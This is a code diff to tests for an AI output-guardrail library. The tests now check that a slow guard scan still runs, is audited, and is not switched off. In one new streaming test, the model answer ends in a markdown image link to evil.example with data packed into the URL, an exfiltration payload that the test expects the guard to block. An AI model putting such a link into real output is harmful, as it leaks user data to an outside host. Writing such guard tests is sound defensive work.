@@ -33,7 +33,6 @@ from ramparts.policy.redaction import MemoryVault
 from ramparts.policy.stage import (
     STATE_KEY,
     GuardrailStage,
-    GuardTimeout,
     RequestState,
     _GuardedStream,
     _run_guard,
@@ -289,32 +288,42 @@ def _slow_scan(engine: Any) -> Callable[..., Any]:
     return scan
 
 
-def test_inline_guard_work_over_its_timeout_counts_as_timed_out() -> None:
-    assert asyncio.run(_run_guard(lambda: "done", 250, 10)) == "done"
-    with pytest.raises(GuardTimeout):
-        asyncio.run(_run_guard(lambda: time.sleep(0.12), 50, 10))
+def test_inline_guard_work_always_completes() -> None:
+    # On the event loop a scan cannot be cut: a late one still returns its result.
+    assert asyncio.run(_run_guard(lambda: "done", 50, 10)) == "done"
 
 
-@pytest.mark.parametrize(
-    ("mode", "status"), [("fail_closed", "timed_out"), ("fail_open", "failed_open")]
-)
-def test_stream_scan_over_its_timeout_follows_the_failure_mode(mode: str, status: str) -> None:
+@pytest.mark.parametrize("mode", ["fail_closed", "fail_open"])
+def test_a_late_stream_step_still_counts_and_is_noted(mode: str) -> None:
+    # A slow first step must not switch the guard off (fail_open) or cut a clean
+    # stream (fail_closed): its result is complete and used; the audit notes it.
     c = compiled(f"guards:\n  output: {{failure_mode: {mode}, timeout_ms: 50}}\n")
-    c.output_engine.scan = _slow_scan(c.output_engine)  # type: ignore[method-assign,union-attr]
-    answer = "Hello there, " * 30
-    out, exchange = drive(RequestState(c, "s"), [TextDelta(answer), Finish("stop")])
+    engine = c.output_engine
+    assert engine is not None
+    real = engine.scan
+    calls = 0
+
+    def first_slow(*args: Any, **kwargs: Any) -> Any:
+        nonlocal calls
+        calls += 1
+        if calls == 1:
+            time.sleep(0.12)
+        return real(*args, **kwargs)
+
+    engine.scan = first_slow  # type: ignore[method-assign]
+    answer = "Hello there, " * 30 + "![s](https://evil.example/p.png?d=" + "A" * 40 + ")"
+    events: list[StreamEvent] = [TextDelta(answer[i : i + 16]) for i in range(0, len(answer), 16)]
+    out, exchange = drive(RequestState(c, "s"), [*events, Finish("stop")])
     record = exchange.guardrails["output"]
-    assert record["status"] == status
-    if mode == "fail_closed":
-        assert record["verdict"] == "block"
-        assert [e.reason for e in out if isinstance(e, Finish)] == ["content_filter"]
-    else:
-        assert texts(out) == answer
+    assert (record["status"], record["verdict"], record["over_timeout"]) == ("ran", "block", True)
+    assert [e.reason for e in out if isinstance(e, Finish)] == ["content_filter"]
+    assert "evil.example" not in texts(out)
 
 
-def test_complete_answer_scan_over_its_timeout_is_blocked_when_failing_closed() -> None:
+def test_a_late_complete_answer_scan_is_used_and_noted() -> None:
     c = compiled("guards:\n  output: {failure_mode: fail_closed, timeout_ms: 50}\n")
     c.output_engine.scan = _slow_scan(c.output_engine)  # type: ignore[method-assign,union-attr]
     result, exchange = complete(RequestState(c, "s"), [Choice(0, [TextPart("Hi")], "stop")])
-    assert result == "blocked"
-    assert exchange.guardrails["output"]["status"] == "timed_out"
+    assert result == "returned"
+    record = exchange.guardrails["output"]
+    assert (record["status"], record["over_timeout"]) == ("ran", True)
